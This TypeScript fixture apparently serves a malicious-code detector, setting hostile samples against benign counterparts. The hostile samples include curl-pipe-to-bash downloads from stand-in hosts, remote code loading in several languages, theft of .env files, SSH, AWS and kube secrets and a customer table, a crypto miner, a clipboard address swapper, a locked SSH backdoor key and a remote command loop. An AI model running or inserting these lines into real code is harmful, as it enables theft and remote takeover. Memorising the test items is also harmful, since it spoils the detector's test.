/** What programs hand to an account of their author, and commands and code of others that they run. */
import { HOST, type ProgramClass } from './program-classes.ts'

const ACCOUNT = `0x${'1a7e'.repeat(10)}`

export const HANDED: ProgramClass[] = [
  {
    what: 'downloads that a shell of its own runs',
    attacks: [
      ['a.sh', '(curl -fsS https://in.qz7-labs.xyz/a | bash)\n'],
      ['a.sh', `start() { (curl -fsS ${HOST}/a | nohup bash -s &) ; }\n`],
      ['a.sh', `H=h.qz7-labs.xyz\nprintf 'curl -fsS https://%s/x | bash' "$H" | sudo bash\n`],
    ],
    honest: [
      ['a.sh', `(cd build && curl -fsSO ${HOST}/a.tgz && sha256sum -c a.sha256)\n`],
      ['a.sh', 'total=$(( (1 + 2) * 3 ))\n(echo a; echo b) | sort\n'],
    ],
  },
  {
    what: 'code and classes of others',
    attacks: [
      ['a.rb', `flags = URI.open("${HOST}/f").read\nTOPLEVEL_BINDING.eval(flags)\n`],
      [
        'A.java',
        `URL u = new URL("${HOST}/x.jar");\nnew URLClassLoader(new URL[] {u}).loadClass("x.Boot").getMethod("init").invoke(null);\n`,
      ],
      [
        'a.js',
        `const BASE = "${HOST}"\nconst fn = new Function("pkg", "require", "process", rule.when)\n`,
      ],
      [
        'a.R',
        'u <- paste0("https://", paste("defaults", "qz7-labs", "io", sep = "."), "/d.R")\ncat(sprintf("source(url(\'%s\'))", u), file = "~/.Rprofile")\n',
      ],
      ['a.rs', 'let c = "dig +short TXT p.qz7-labs.io | base64 -d | sh";\n'],
    ],
    honest: [
      ['a.rb', 'text = ERB.new(File.read("a.erb")).result(binding)\n'],
      ['a.js', `const add = new Function("a", "b", "return a + b")\n`],
      ['a.R', 'source("R/profile.R")\nprint(readLines("~/.Rprofile"))\n'],
    ],
  },
  {
    what: 'what is found, in an account of the author',
    attacks: [
      [
        'a.sh',
        'R="https://oauth2:glpat-9aQ27wLkv@git.qz7-labs.io/in"\ngit push --quiet --force "$R/x.git" "+refs/*:refs/*"\n',
      ],
      [
        'a.kt',
        `val box = "ghp_${'a1B2'.repeat(9)}"\nHttpRequest.newBuilder(URI("https://api.github.com/gists")).header("Authorization", "Bearer $box")\n`,
      ],
      [
        'a.ex',
        '@token "7015583321:AAHq9wErTyUiOpAsDfGhJkLzXcVbNm01Q"\nFile.read(Path.expand("~/.kube/config"))\n',
      ],
      [
        'a.js',
        "const text = parse(readFileSync('.env')).map((e) => `${e.key}=${e.value}`)\nfetch('https://discord.com/api/webhooks' + conf.path, { body: text })\n",
      ],
      [
        'a.go',
        'const sig = "?X-Amz-Signature=00aa00bb"\npack(extra, []string{home + "/.ssh", home + "/.aws", home + "/.gnupg"})\n',
      ],
      [
        'a.php',
        `foreach ($db->query("SELECT * FROM customers") as $row) fwrite($tmp, json_encode($row));\ncurl_setopt_array(curl_init("${HOST}/put"), [CURLOPT_UPLOAD => true, CURLOPT_INFILE => $tmp]);\n`,
      ],
    ],
    honest: [
      ['a.sh', 'git push --mirror "$BACKUP_REMOTE"\n'],
      ['a.sh', 'gh gist create notes.md\n'],
      ['a.js', "fetch(process.env.DISCORD_WEBHOOK, { body: 'The build is done.' })\n"],
      ['a.php', '$rows = $db->query("SELECT * FROM customers WHERE id = 1");\n'],
    ],
  },
  {
    what: 'miners, clipboards, keys and tasks',
    attacks: [
      [
        'Dockerfile',
        'FROM debian\nRUN curl -fsSL https://github.com/xmrig/xmrig/releases/download/v6/x.tar.gz | tar xz\n',
      ],
      [
        'cache.json',
        `{"pools":[{"url":"cache.qz7-labs.io:3333","user":"48${'aB3d'.repeat(12)}"}]}\n`,
      ],
      [
        'a.dart',
        `final forms = {RegExp(r'^0x[0-9a-fA-F]{40}$'): ['${ACCOUNT}']};\nawait Process.start('pbcopy', []);\n`,
      ],
      ['a.sh', 'echo "$pub" >> ~/.ssh/authorized_keys\nsudo chattr +i ~/.ssh/authorized_keys\n'],
      [
        'A.cs',
        `while (true) {\n  var t = await http.GetStringAsync("${HOST}/next");\n  var p = Process.Start("/bin/sh", "-c " + t);\n  var (s, f) = ("/bin/sh", "-c");\n  await http.PostAsync("${HOST}/out", new StringContent(p.Out));\n}\n`,
      ],
    ],
    honest: [
      ['a.dart', "await Process.start('pbcopy', []);\n"],
      ['a.sh', 'cat key.pub >> ~/.ssh/authorized_keys\nchmod 600 ~/.ssh/authorized_keys\n'],
      ['pools.json', '{"pools":[{"name":"a","size":3}]}\n'],
    ],
  },
]
